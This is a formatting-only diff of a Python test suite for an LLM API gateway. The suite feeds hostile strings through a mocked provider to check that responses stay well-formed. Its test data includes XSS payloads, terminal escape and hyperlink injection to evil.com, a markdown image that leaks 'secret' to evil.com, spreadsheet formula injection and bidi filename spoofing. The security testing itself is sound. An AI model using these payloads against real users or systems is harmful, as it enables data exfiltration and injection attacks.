@@ -27,14 +27,14 @@ EVILS = (
     "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;http://evil.com\x07click\x1b]8;;\x07",
     "\x9b31m\x90q\x9c",
     "</script><script>alert(1)</script>",
-    "\"><img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
     "![x](http://evil.com/?q=secret)",
     "=cmd|'/c calc'!A1",
     "a\u2028b\u2029c\u0085d\x0be\x0cf",
     "\u202etxt.exe\u2066",
-    "{\"level\": \"INFO\"}",
+    '{"level": "INFO"}',
     "%s %d %(name)s {0} {password}",
-    "data: {\"x\": 1}\n\ndata: [DONE]\n\nevent: message_stop",
+    'data: {"x": 1}\n\ndata: [DONE]\n\nevent: message_stop',
     "\x00nul",
     "\ud800",
 )
@@ -53,7 +53,13 @@ class Provider:
             error = {"message": evil, "type": evil, "code": evil, "param": evil}
             return whole({"error": error}, 500, x_evil=re.sub(r"[^ -~]", "", evil))
         if b'"stream":true' in asked.body.replace(b" ", b""):
-            chunks = [{"id": evil, "model": evil, "choices": [{"index": 0, "delta": {"content": evil}, "finish_reason": None}]}]
+            chunks = [
+                {
+                    "id": evil,
+                    "model": evil,
+                    "choices": [{"index": 0, "delta": {"content": evil}, "finish_reason": None}],
+                }
+            ]
             pieces = [b"data: " + json.dumps(chunk).encode() + b"\n\n" for chunk in chunks]
             return events(*pieces, b"data: [DONE]\n\n")
         said = speech.whole("openai")
@@ -76,7 +82,9 @@ def gateway(provider: tuple[Provider, Upstream]) -> Iterator[Gateway]:
         yield one
 
 
-def ask(gateway: Gateway, method: str, path: str, body: object, key: str = KEY, **named: str) -> tuple[list[tuple[str, str]], bytes]:
+def ask(
+    gateway: Gateway, method: str, path: str, body: object, key: str = KEY, **named: str
+) -> tuple[list[tuple[str, str]], bytes]:
     connection = http.client.HTTPConnection("127.0.0.1", gateway.port, timeout=20)
     headers = {"authorization": f"Bearer {key}", "content-type": "application/json"}
     headers |= {name.replace("_", "-"): value for name, value in named.items()}
@@ -97,7 +105,9 @@ def test_one_event_stays_one_line_and_one_answer_one_answer(gateway: Gateway, pr
         for model in ("lab/qwen3-32b", "lab/fail", evil, f"lab/{evil}"):
             for stream in (False, True):
                 for path in ("/v1/chat/completions", "/v1/messages"):
-                    asked = speech.ask(model, stream=stream, user=evil) | {"messages": [{"role": "user", "content": evil}]}
+                    asked = speech.ask(model, stream=stream, user=evil) | {
+                        "messages": [{"role": "user", "content": evil}]
+                    }
                     pairs, body = ask(gateway, "POST", path, asked, **named)
                     assert _sound(pairs), (pairs, evil)
                     if stream and b"text/event-stream" in dict(pairs).get("content-type", "").encode():
